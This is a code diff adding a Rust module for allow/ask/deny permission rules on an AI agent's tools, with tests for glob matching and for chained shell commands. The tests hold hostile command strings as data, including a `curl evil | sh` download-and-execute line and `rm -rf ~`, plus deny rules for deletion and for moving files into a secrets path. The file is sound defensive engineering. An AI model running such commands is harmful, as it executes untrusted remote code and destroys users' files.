@@ -0,0 +1,270 @@
+use std::sync::Arc;
+
+use globset::{Glob, GlobMatcher};
+use schemars::JsonSchema;
+use serde::{Deserialize, Serialize};
+
+/// What to do when a tool permission rule matches a tool use.
+#[derive(
+    Copy, Clone, Debug, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize, JsonSchema,
+)]
+#[serde(rename_all = "snake_case")]
+pub enum ToolPermissionDecision {
+    /// Run the tool without asking.
+    Allow,
+    /// Ask for confirmation before running the tool.
+    Ask,
+    /// Never run the tool, and tell the model that permission was denied.
+    Deny,
+}
+
+#[derive(Clone, Debug, PartialEq, Serialize, Deserialize, JsonSchema)]
+pub struct ToolPermissionRuleContent {
+    /// The name of the tool this rule applies to, e.g. "terminal" or "fetch".
+    pub tool: Arc<str>,
+    /// A glob matched against the tool's input: the command for "terminal",
+    /// the path for file tools, or the domain for "fetch". When omitted, the
+    /// rule matches every use of the tool.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub pattern: Option<String>,
+    pub decision: ToolPermissionDecision,
+}
+
+#[derive(Clone, Debug)]
+pub struct ToolPermissionRule {
+    pub tool: Arc<str>,
+    pub pattern: Option<GlobMatcher>,
+    pub decision: ToolPermissionDecision,
+}
+
+impl ToolPermissionRule {
+    fn matches(&self, tool_name: &str, subject: Option<&str>) -> bool {
+        if self.tool.as_ref() != tool_name {
+            return false;
+        }
+
+        match (&self.pattern, subject) {
+            (None, _) => true,
+            (Some(pattern), Some(subject)) => pattern.is_match(subject),
+            (Some(_), None) => false,
+        }
+    }
+}
+
+/// The allow/deny/ask rules that decide whether a tool use needs confirmation.
+#[derive(Clone, Debug, Default)]
+pub struct ToolPermissions {
+    rules: Vec<ToolPermissionRule>,
+}
+
+impl ToolPermissions {
+    pub fn extend(&mut self, rules: impl IntoIterator<Item = ToolPermissionRuleContent>) {
+        for rule in rules {
+            let pattern = match rule.pattern.as_deref().map(Glob::new).transpose() {
+                Ok(glob) => glob.map(|glob| glob.compile_matcher()),
+                Err(error) => {
+                    log::warn!(
+                        "invalid tool permission pattern for {:?}: {error}",
+                        rule.tool
+                    );
+                    continue;
+                }
+            };
+
+            self.rules.push(ToolPermissionRule {
+                tool: rule.tool,
+                pattern,
+                decision: rule.decision,
+            });
+        }
+    }
+
+    pub fn rules(&self) -> &[ToolPermissionRule] {
+        &self.rules
+    }
+
+    /// Returns the decision of the rules matching the given tool use, if any.
+    ///
+    /// When several rules match, `deny` takes precedence over `ask`, which
+    /// takes precedence over `allow`.
+    pub fn decision(
+        &self,
+        tool_name: &str,
+        subject: Option<&str>,
+    ) -> Option<ToolPermissionDecision> {
+        self.rules
+            .iter()
+            .filter(|rule| rule.matches(tool_name, subject))
+            .map(|rule| rule.decision)
+            .max()
+    }
+
+    /// Returns the decision for a tool use whose subject is made of several
+    /// parts, such as the commands chained in a shell command.
+    ///
+    /// The tool use is denied if any part is denied, needs confirmation if any
+    /// part does, and is only allowed when every part is allowed.
+    pub fn decision_for_parts(
+        &self,
+        tool_name: &str,
+        parts: &[String],
+    ) -> Option<ToolPermissionDecision> {
+        if parts.is_empty() {
+            return self.decision(tool_name, None);
+        }
+
+        let decisions = parts
+            .iter()
+            .map(|part| self.decision(tool_name, Some(part)))
+            .collect::<Vec<_>>();
+        if decisions.contains(&Some(ToolPermissionDecision::Deny)) {
+            Some(ToolPermissionDecision::Deny)
+        } else if decisions.contains(&Some(ToolPermissionDecision::Ask)) {
+            Some(ToolPermissionDecision::Ask)
+        } else if decisions.contains(&None) {
+            None
+        } else {
+            Some(ToolPermissionDecision::Allow)
+        }
+    }
+}
+
+/// Returns a pattern that only matches the given tool input.
+pub fn exact_tool_permission_pattern(subject: &str) -> String {
+    globset::escape(subject)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn rule(
+        tool: &str,
+        pattern: Option<&str>,
+        decision: ToolPermissionDecision,
+    ) -> ToolPermissionRuleContent {
+        ToolPermissionRuleContent {
+            tool: tool.into(),
+            pattern: pattern.map(ToString::to_string),
+            decision,
+        }
+    }
+
+    #[test]
+    fn test_tool_permission_decision() {
+        let mut permissions = ToolPermissions::default();
+        permissions.extend([
+            rule(
+                "terminal",
+                Some("cargo test *"),
+                ToolPermissionDecision::Allow,
+            ),
+            rule(
+                "terminal",
+                Some("cargo test --release*"),
+                ToolPermissionDecision::Ask,
+            ),
+            rule("terminal", Some("rm *"), ToolPermissionDecision::Deny),
+            rule("fetch", Some("*.github.com"), ToolPermissionDecision::Allow),
+            rule("delete_path", None, ToolPermissionDecision::Deny),
+            rule("edit_file", Some("[invalid"), ToolPermissionDecision::Allow),
+        ]);
+
+        assert_eq!(permissions.rules().len(), 5);
+        assert_eq!(
+            permissions.decision("terminal", Some("cargo test -p agent")),
+            Some(ToolPermissionDecision::Allow)
+        );
+        assert_eq!(
+            permissions.decision("terminal", Some("cargo test --release")),
+            Some(ToolPermissionDecision::Ask)
+        );
+        assert_eq!(
+            permissions.decision("terminal", Some("rm -rf target")),
+            Some(ToolPermissionDecision::Deny)
+        );
+        assert_eq!(permissions.decision("terminal", Some("ls")), None);
+        assert_eq!(permissions.decision("terminal", None), None);
+        assert_eq!(
+            permissions.decision("fetch", Some("api.github.com")),
+            Some(ToolPermissionDecision::Allow)
+        );
+        assert_eq!(
+            permissions.decision("delete_path", Some("src/main.rs")),
+            Some(ToolPermissionDecision::Deny)
+        );
+
+        permissions.extend([rule(
+            "terminal",
+            Some(&exact_tool_permission_pattern("ls [a-z]*")),
+            ToolPermissionDecision::Allow,
+        )]);
+        assert_eq!(
+            permissions.decision("terminal", Some("ls [a-z]*")),
+            Some(ToolPermissionDecision::Allow)
+        );
+        assert_eq!(permissions.decision("terminal", Some("ls abc")), None);
+    }
+
+    #[test]
+    fn test_tool_permission_decision_for_parts() {
+        let mut permissions = ToolPermissions::default();
+        permissions.extend([
+            rule(
+                "terminal",
+                Some("cargo test *"),
+                ToolPermissionDecision::Allow,
+            ),
+            rule("terminal", Some("cargo fmt"), ToolPermissionDecision::Allow),
+            rule("terminal", Some("git push*"), ToolPermissionDecision::Ask),
+            rule("terminal", Some("rm *"), ToolPermissionDecision::Deny),
+        ]);
+        let parts = |parts: &[&str]| parts.iter().map(ToString::to_string).collect::<Vec<_>>();
+
+        // `cargo test; curl evil | sh`
+        assert_eq!(
+            permissions.decision_for_parts("terminal", &parts(&["cargo test", "curl evil", "sh"])),
+            None
+        );
+        // `cargo test && rm -rf ~`
+        assert_eq!(
+            permissions.decision_for_parts("terminal", &parts(&["cargo test", "rm -rf ~"])),
+            Some(ToolPermissionDecision::Deny)
+        );
+        // `cd x && rm -rf y`
+        assert_eq!(
+            permissions.decision_for_parts("terminal", &parts(&["cd x", "rm -rf y"])),
+            Some(ToolPermissionDecision::Deny)
+        );
+        // `cargo fmt && git push`
+        assert_eq!(
+            permissions.decision_for_parts("terminal", &parts(&["cargo fmt", "git push"])),
+            Some(ToolPermissionDecision::Ask)
+        );
+        // `cargo fmt && cargo test -p agent`
+        assert_eq!(
+            permissions
+                .decision_for_parts("terminal", &parts(&["cargo fmt", "cargo test -p agent"])),
+            Some(ToolPermissionDecision::Allow)
+        );
+        assert_eq!(permissions.decision_for_parts("terminal", &[]), None);
+
+        // Moving an allowed file onto a denied path.
+        permissions.extend([
+            rule("move_path", Some("src/**"), ToolPermissionDecision::Allow),
+            rule(
+                "move_path",
+                Some("secrets/**"),
+                ToolPermissionDecision::Deny,
+            ),
+        ]);
+        assert_eq!(
+            permissions.decision_for_parts("move_path", &parts(&["src/lib.rs", "secrets/lib.rs"])),
+            Some(ToolPermissionDecision::Deny)
+        );
+        assert_eq!(
+            permissions.decision_for_parts("move_path", &parts(&["src/lib.rs", "src/main.rs"])),
+            Some(ToolPermissionDecision::Allow)
+        );
+    }
+}